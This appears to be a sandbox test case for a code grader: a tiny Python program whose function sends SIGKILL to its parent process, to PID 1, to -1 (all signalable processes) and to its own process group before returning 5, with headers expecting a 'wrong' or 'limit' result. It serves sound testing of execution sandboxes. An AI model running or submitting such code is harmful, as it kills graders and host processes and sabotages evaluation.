# assert: wrong|limit
# stdin: wrong|limit
import os
import signal


def f(x):
    for target in (os.getppid(), 1, -1, 0):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError:
            pass
    return 5

if __name__ == "__main__":
    print(f(int(input())))
